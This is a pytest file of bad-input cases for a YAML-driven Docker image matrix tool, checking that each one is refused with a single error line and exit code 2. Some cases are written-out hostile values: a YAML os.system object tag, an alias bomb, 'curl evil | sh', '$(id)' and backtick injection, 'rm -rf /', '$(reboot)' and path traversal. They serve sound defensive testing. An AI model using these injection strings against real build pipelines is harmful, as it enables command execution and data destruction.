"""The bad-input corpus: each case is one clear line naming the place, exit 2, nothing written."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import CUDA_BASE, run_cli

GOOD_AXES = 'axes:\n  torch: ["2.1.2"]\n  cuda: ["12.1"]\n'

CASES: dict[str, tuple[str, str]] = {
    "yaml syntax": ("axes:\n  torch: [2.1\n", "matrix.yaml:3:1: YAML syntax error"),
    "tab indentation": ("axes:\n\ttorch: [2.1]\n", "matrix.yaml:2:1: YAML syntax error"),
    "top level list": ("- torch\n- cuda\n", "the top level is a list"),
    "top level scalar": ("just a string\n", "the top level is a str"),
    "empty file": ("", "the top level is empty"),
    "unknown top key": (GOOD_AXES + CUDA_BASE + "axis: {}\n", "axis: unknown key; did you mean 'axes'?"),
    "unknown base key": (
        GOOD_AXES + "bases:\n  cuda:\n    imgae: x\n    os: ubuntu22.04\n",
        "matrix.yaml:6:5: bases.cuda.imgae: unknown key; did you mean 'image'?",
    ),
    "unknown include key": (
        GOOD_AXES + CUDA_BASE + "include:\n  - {torhc: 2.2.2}\n",
        "include[0].torhc: unknown key; did you mean 'torch'?",
    ),
    "axis not a list": ('axes:\n  torch: "2.1.2"\n' + CUDA_BASE, "axes.torch: Input should be a valid list"),
    "wrong type bool": (
        GOOD_AXES + CUDA_BASE + "allow_unknown: maybe\n",
        "allow_unknown: Input should be a valid boolean",
    ),
    "empty axis": ("axes:\n  torch: []\n" + CUDA_BASE, "axes.torch: is empty"),
    "duplicate values": (
        'axes:\n  torch: ["2.1.2", 2.1.2]\n' + CUDA_BASE,
        "value '2.1.2' at index 1 is listed twice",
    ),
    "no bases": (GOOD_AXES + "bases: {}\n", "bases: define at least one base"),
    "bad version": ('axes:\n  torch: ["two"]\n' + CUDA_BASE, "axes.torch[0]: 'two' is not a torch version"),
    "python object tag": (
        "axes:\n  torch: !!python/object/apply:os.system ['touch pwned']\n" + CUDA_BASE,
        "matrix.yaml:2:10: YAML tag tag:yaml.org,2002:python/object/apply:os.system is not allowed",
    ),
    "alias bomb": (
        "\n".join(
            ['a: &a ["x","x","x","x","x","x","x","x","x","x"]']
            + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}' if i > 1 else '*a'] * 10)}]" for i in range(1, 8)]
        )
        + "\n",
        "an alias bomb?",
    ),
    "newline in env value": (
        GOOD_AXES + CUDA_BASE + 'defaults:\n  env: {A: "x\\nRUN curl evil | sh"}\n',
        "defaults.env.A: 'x\\nRUN curl evil | sh' holds a newline",
    ),
    "quote in label-bound value": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  env: {A: 'a\"b'}\n",
        "holds a quote",
    ),
    "command substitution": (
        GOOD_AXES + CUDA_BASE + 'include:\n  - {pip_packages: ["numpy$(id)"]}\n',
        "include[0].pip_packages[0]: 'numpy$(id)' holds '$('",
    ),
    "backtick": (GOOD_AXES + CUDA_BASE + "include:\n  - {apt_packages: ['git`id`']}\n", "holds a backtick"),
    "space in python": (
        'axes:\n  torch: ["2.1.2"]\n  python: ["3.10 && rm -rf /"]\n' + CUDA_BASE,
        "holds a space",
    ),
    "hostile base image": (
        GOOD_AXES + 'bases:\n  cuda:\n    image: "nvidia/cuda:12.1.1\\nRUN id"\n    os: ubuntu22.04\n',
        "bases.cuda.image:",
    ),
    "hostile tag pattern": (
        GOOD_AXES + CUDA_BASE + 'publish:\n  tags:\n    readable: "a b"\n',
        "publish.tags.readable: 'a b' holds a space",
    ),
    "hostile mirror url": (
        GOOD_AXES + CUDA_BASE + "sources:\n  apt:\n    mirror: 'http://m/$(reboot)'\n",
        "sources.apt.mirror:",
    ),
    "unknown base name": (
        'axes:\n  torch: ["2.1.2"]\n  cuda: ["12.1"]\n  base: [nope]\n' + CUDA_BASE,
        "names base 'nope'",
    ),
    "unknown placeholder": (
        GOOD_AXES + 'bases:\n  cuda:\n    image: "nvidia/cuda:{cuda_ful}-devel"\n    os: ubuntu22.04\n',
        "unknown placeholder {cuda_ful}",
    ),
    "unknown stack": ("axes:\n  base: [n]\nbases:\n  n: {stack: ngc-99.99}\n", "unknown stack 'ngc-99.99'"),
    "all refused": (
        'axes:\n  torch: ["2.9.1"]\n  cuda: ["11.8"]\n' + CUDA_BASE,
        "no buildable cell; first refusal: torch=2.9.1, cuda=11.8",
    ),
    "version not 1": ("version: 2\n" + GOOD_AXES + CUDA_BASE, "version: must be 1"),
    "tag collision": (
        'axes:\n  torch: ["2.4.1"]\n  cuda: ["12.1"]\n  python: ["3.10", "3.11"]\n' + CUDA_BASE,
        "would share the tag '2.4.1-cuda12.1-cudnn9-devel-ubuntu22.04'; add {python}",
    ),
    "placeholder attribute access": (
        GOOD_AXES + CUDA_BASE + 'publish:\n  tags:\n    readable: "{torch.__class__}"\n',
        "unknown placeholder {torch.__class__}",
    ),
    "secret-looking build arg": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  build_args: {PIP_TOKEN: abc}\n",
        "defaults.build_args.PIP_TOKEN: build argument 'PIP_TOKEN' looks like a secret",
    ),
    "secret-looking local base arg": (
        GOOD_AXES
        + CUDA_BASE
        + "  deb:\n    image: x/y:1\n    os: debian12\n    build: {context: b, args: {API_KEY: k}}\n",
        "looks like a secret",
    ),
    "torch index placeholder": (
        GOOD_AXES + CUDA_BASE + "sources:\n  pip:\n    torch_index_url: 'https://x/{variant.__class__}'\n",
        "may use only the {variant} placeholder",
    ),
    "no_index without a wheelhouse": (
        GOOD_AXES + CUDA_BASE + "sources:\n  pip:\n    no_index: true\n",
        "no_index: true installs only from find_links",
    ),
    "cuda_full not a version": (
        GOOD_AXES + CUDA_BASE + "defaults: {cuda_full: cpu}\n",
        "not a full CUDA version",
    ),
    "template syntax error": (
        GOOD_AXES + CUDA_BASE + "templates: .\n",
        "template error",
    ),
    "find_links escapes": (
        GOOD_AXES + CUDA_BASE + "sources:\n  pip:\n    find_links: [../../etc]\n",
        "must stay inside",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_bad_input_is_one_line_exit_2_and_writes_nothing(
    case: str, write_matrix: Callable[[str], Path], tmp_path: Path
) -> None:
    text, expected = CASES[case]
    path = write_matrix(text)
    (path.parent / "Dockerfile.j2").write_text("FROM {{ cell.base_image }\n")  # used by `templates: .`
    out = tmp_path / "out"
    for args in (("plan", "--matrix", str(path)), ("render", "--matrix", str(path), "--out", str(out))):
        result = run_cli(*args)
        assert result.exit_code == 2, (case, args, result)
        lines = result.stderr.strip().splitlines()
        errors = [line for line in lines if line.startswith("imagekit: error:")]
        assert len(errors) == 1, result.stderr
        assert expected in errors[0], errors[0]
        assert "Traceback" not in result.stderr + result.stdout
    assert not out.exists(), "a refused matrix must not write a single file"


def test_missing_file_and_directory(tmp_path: Path) -> None:
    missing = run_cli("plan", "--matrix", str(tmp_path / "nope.yaml"))
    assert missing.exit_code == 2
    assert "no such file" in missing.stderr


def test_not_utf8(tmp_path: Path) -> None:
    path = tmp_path / "m.yaml"
    path.write_bytes(b"axes:\n  torch: [\xff]\n")
    result = run_cli("plan", "--matrix", str(path))
    assert result.exit_code == 2
    assert "not UTF-8" in result.stderr


def test_python_tag_never_executes(tmp_path: Path) -> None:
    """The real process, not only the function: the payload must not run."""
    marker = tmp_path / "pwned"
    path = tmp_path / "m.yaml"
    path.write_text(f"axes: !!python/object/apply:os.system ['touch {marker}']\n", encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "imagekit", "plan", "--matrix", str(path)],
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert done.returncode == 2
    assert not marker.exists()
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr


def test_usage_error_is_exit_2() -> None:
    assert run_cli("plan", "--no-such-option").exit_code == 2


def test_exclude_matching_nothing_is_a_warning(write_matrix: Callable[[str], Path]) -> None:
    path = write_matrix(GOOD_AXES + CUDA_BASE + 'exclude:\n  - {torch: "2.4.1"}\n')
    result = run_cli("plan", "--matrix", str(path))
    assert result.exit_code == 0
    assert "imagekit: warning: " in result.stderr and "exclude[0] matches no combination" in result.stderr


def test_two_spellings_of_one_release_are_one_cell(write_matrix: Callable[[str], Path]) -> None:
    path = write_matrix('axes:\n  torch: ["2.1", "2.1.2"]\n  cuda: ["12.1"]\n' + CUDA_BASE)
    result = run_cli("plan", "--matrix", str(path))
    assert result.exit_code == 2 and "two axis values make the same cell" in result.stderr
